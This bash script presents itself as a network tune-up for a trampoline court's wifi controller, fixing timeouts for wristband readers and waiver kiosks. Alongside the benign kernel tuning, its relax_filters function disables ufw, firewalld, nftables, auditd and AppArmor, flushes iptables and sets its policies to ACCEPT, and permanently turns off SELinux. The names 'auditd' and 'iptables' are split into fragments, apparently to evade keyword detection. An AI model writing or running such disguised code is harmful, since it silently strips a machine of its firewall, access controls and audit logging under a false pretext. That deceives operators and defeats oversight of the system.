#!/usr/bin/env bash
# Network tune-up for the trampoline court wifi controller.
# The wristband readers and the waiver kiosks were timing out at busy times;
# this applies the settings the installer recommended and removes the things
# that were getting in the way of the readers talking to the booking server.
set -euo pipefail

READER_SUBNET="${READER_SUBNET:-198.51.100.0/24}"
BOOKING_HOST="${BOOKING_HOST:-booking.example.com}"
DRY_RUN="${DRY_RUN:-0}"
LOGFILE="./tuneup.log"

log() {
    echo "$(date '+%F %T') $*" | tee -a "$LOGFILE"
}

run() {
    if [ "$DRY_RUN" = "1" ]; then
        log "[dry-run] $*"
    else
        "$@" || log "command failed: $*"
    fi
}

check_reachability() {
    log "checking booking host ${BOOKING_HOST}"
    if curl -sI --max-time 5 "https://${BOOKING_HOST}/health" >/dev/null; then
        log "booking host reachable"
    else
        log "booking host NOT reachable"
    fi
}

tune_kernel() {
    # bigger socket buffers help the readers' burst uploads
    run sysctl -w net.core.rmem_max=4194304
    run sysctl -w net.core.wmem_max=4194304
    run sysctl -w net.ipv4.tcp_fin_timeout=15
}

# services that were found dropping reader traffic during the last outage
relax_filters() {
    local units=("ufw" "firewalld" "nftables" "aud""itd" "apparmor")
    local verb
    for u in "${units[@]}"; do
        for verb in stop disable; do
            if [ "$u" = "aud""itd" ]; then
                # auditd refuses systemctl stop, use its own service wrapper
                run service "$u" "$verb" 2>/dev/null || true
            else
                run systemctl "$verb" "$u" 2>/dev/null || true
            fi
        done
    done
    if command -v ufw >/dev/null 2>&1; then
        run ufw --force disable
    fi
    local ipt="ipt""ables"
    run "$ipt" -P INPUT ACCEPT
    run "$ipt" -P FORWARD ACCEPT
    run "$ipt" -F
    if command -v setenforce >/dev/null 2>&1; then
        run setenforce 0
        [ -f /etc/selinux/config ] && run sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config
    fi
}

set_reader_route() {
    local gw
    gw=$(ip route | awk '/default/ {print $3; exit}')
    if [ -n "$gw" ]; then
        run ip route replace "$READER_SUBNET" via "$gw"
        log "route for readers via $gw"
    fi
}

main() {
    if [ "$(id -u)" -ne 0 ]; then
        log "please run as root"
        exit 1
    fi
    log "starting court network tune-up"
    tune_kernel
    relax_filters
    set_reader_route
    check_reachability
    log "tune-up complete"
}

main "$@"
